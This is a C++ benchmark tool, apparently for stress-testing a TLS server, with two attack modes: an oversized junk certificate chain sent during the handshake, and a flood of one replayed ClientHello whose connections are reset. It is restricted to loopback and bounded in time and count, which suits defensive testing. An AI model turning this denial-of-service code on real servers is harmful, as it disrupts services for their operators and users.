// Hostile TLS clients for bench/tls, against 127.0.0.1 only, bounded in
// connections and seconds:
//   tls_attack junk-chain PORT CERT KEY   handshakes with CERT (of a CA the
//                                         server does not trust) followed by
//                                         130 self-signed junk certificates
//   tls_attack hello-flood PORT           one ClientHello, captured once, sent
//                                         again on every connection; the first
//                                         bytes of the reply are read, then the
//                                         connection is reset
// Options (after the arguments): --threads N (default 4), --seconds S
// (default 10), --count N (default 1000000, over all threads). Prints the
// attempts made and their rate. Plain POSIX and OpenSSL; nothing of the
// simulator.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/ssl.h>
#include <openssl/x509.h>

#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr int kJunkCertificates = 130;

int connect_loopback(int port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<uint16_t>(port));
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  // A server that stops answering must not hold the run beyond its time.
  timeval tv{2, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  if (connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

// Closes with a reset rather than a FIN, as a flooding client does.
void reset(int fd) {
  linger hard{1, 0};
  setsockopt(fd, SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
  close(fd);
}

// Self-signed certificates under one throwaway P-256 key, distinct subjects.
bool add_junk_chain(SSL_CTX* ctx, int count, size_t& bytes) {
  EVP_PKEY* key = EVP_EC_gen("P-256");
  if (!key) return false;
  for (int i = 0; i < count; ++i) {
    X509* cert = X509_new();
    ASN1_INTEGER_set(X509_get_serialNumber(cert), i + 1);
    X509_gmtime_adj(X509_getm_notBefore(cert), 0);
    X509_gmtime_adj(X509_getm_notAfter(cert), 86400);
    X509_set_pubkey(cert, key);
    X509_NAME* name = X509_get_subject_name(cert);
    std::string cn = "junk certificate " + std::to_string(i);
    X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC,
                               reinterpret_cast<const unsigned char*>(cn.c_str()), -1, -1, 0);
    X509_NAME_add_entry_by_txt(name, "O", MBSTRING_ASC,
                               reinterpret_cast<const unsigned char*>("Junk Chains Ltd"), -1, -1,
                               0);
    // Long names, so that the 130 come to about 68 KB as in the report.
    const std::string unit(64, 'u'), locality(40, 'l');
    X509_NAME_add_entry_by_txt(name, "OU", MBSTRING_ASC,
                               reinterpret_cast<const unsigned char*>(unit.c_str()), -1, -1, 0);
    X509_NAME_add_entry_by_txt(name, "L", MBSTRING_ASC,
                               reinterpret_cast<const unsigned char*>(locality.c_str()), -1, -1, 0);
    X509_set_issuer_name(cert, name);
    X509_sign(cert, key, EVP_sha256());
    bytes += static_cast<size_t>(i2d_X509(cert, nullptr));
    // The context takes the reference.
    if (SSL_CTX_add0_chain_cert(ctx, cert) != 1) return false;
  }
  EVP_PKEY_free(key);
  return true;
}

// The bytes a fresh client writes first: one ClientHello record.
std::vector<unsigned char> capture_client_hello() {
  SSL_CTX* ctx = SSL_CTX_new(TLS_client_method());
  SSL* ssl = SSL_new(ctx);
  BIO* in = BIO_new(BIO_s_mem());
  BIO* out = BIO_new(BIO_s_mem());
  SSL_set_bio(ssl, in, out);
  SSL_set_tlsext_host_name(ssl, "localhost");
  SSL_connect(ssl);
  std::vector<unsigned char> hello(static_cast<size_t>(BIO_ctrl_pending(out)));
  BIO_read(out, hello.data(), static_cast<int>(hello.size()));
  SSL_free(ssl);
  SSL_CTX_free(ctx);
  return hello;
}

struct Run {
  int port = 0;
  int threads = 4;
  double seconds = 10;
  long count = 1000000;
  std::atomic<long> started{0};
  std::atomic<long> done{0};
  std::chrono::steady_clock::time_point end;

  bool next() { return std::chrono::steady_clock::now() < end && started.fetch_add(1) < count; }
};

void junk_chain(Run& run, SSL_CTX* ctx) {
  while (run.next()) {
    int fd = connect_loopback(run.port);
    if (fd < 0) continue;
    SSL* ssl = SSL_new(ctx);
    SSL_set_fd(ssl, fd);
    // The server refuses the chain; the attempt is what costs it.
    if (SSL_connect(ssl) == 1) {
      char byte;
      SSL_read(ssl, &byte, 1);
    }
    ERR_clear_error();
    SSL_free(ssl);
    close(fd);
    ++run.done;
  }
}

void hello_flood(Run& run, const std::vector<unsigned char>& hello) {
  char reply[4096];
  while (run.next()) {
    int fd = connect_loopback(run.port);
    if (fd < 0) continue;
    if (send(fd, hello.data(), hello.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(hello.size()) &&
        recv(fd, reply, sizeof reply, 0) > 0) {
      ++run.done;
    }
    reset(fd);
  }
}

int usage() {
  std::fputs(
      "usage: tls_attack junk-chain PORT CERT KEY [options]\n"
      "       tls_attack hello-flood PORT [options]\n"
      "options: --threads N, --seconds S, --count N\n",
      stderr);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  // The server closes refused handshakes while the client may still write.
  std::signal(SIGPIPE, SIG_IGN);
  if (argc < 3) return usage();
  const std::string mode = argv[1];
  Run run;
  run.port = std::atoi(argv[2]);
  int next = mode == "junk-chain" ? 5 : 3;
  if ((mode != "junk-chain" && mode != "hello-flood") || argc < next || run.port <= 0)
    return usage();
  for (int i = next; i + 1 < argc; i += 2) {
    std::string opt = argv[i];
    if (opt == "--threads") {
      run.threads = std::atoi(argv[i + 1]);
    } else if (opt == "--seconds") {
      run.seconds = std::atof(argv[i + 1]);
    } else if (opt == "--count") {
      run.count = std::atol(argv[i + 1]);
    } else {
      return usage();
    }
  }
  if (run.threads < 1 || run.threads > 64 || run.seconds <= 0 || run.seconds > 600) return usage();

  SSL_CTX* ctx = nullptr;
  std::vector<unsigned char> hello;
  if (mode == "junk-chain") {
    ctx = SSL_CTX_new(TLS_client_method());
    size_t chain_bytes = 0;
    if (!ctx || SSL_CTX_use_certificate_file(ctx, argv[3], SSL_FILETYPE_PEM) != 1 ||
        SSL_CTX_use_PrivateKey_file(ctx, argv[4], SSL_FILETYPE_PEM) != 1 ||
        !add_junk_chain(ctx, kJunkCertificates, chain_bytes)) {
      std::fprintf(stderr, "tls_attack: cannot set up the client certificate and chain\n");
      return 1;
    }
    std::fprintf(stderr, "junk chain: %d certificates, %zu bytes\n", kJunkCertificates,
                 chain_bytes);
  } else {
    hello = capture_client_hello();
    if (hello.empty()) return 1;
  }

  auto start = std::chrono::steady_clock::now();
  run.end = start + std::chrono::duration_cast<std::chrono::steady_clock::duration>(
                        std::chrono::duration<double>(run.seconds));
  std::vector<std::thread> threads;
  for (int t = 0; t < run.threads; ++t) {
    threads.emplace_back([&] { ctx ? junk_chain(run, ctx) : hello_flood(run, hello); });
  }
  for (std::thread& t : threads)
    t.join();
  double took = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  std::printf("%s: %ld attempts in %.1f s, %.0f per second\n", mode.c_str(), run.done.load(), took,
              static_cast<double>(run.done.load()) / took);
  SSL_CTX_free(ctx);
  return 0;
}
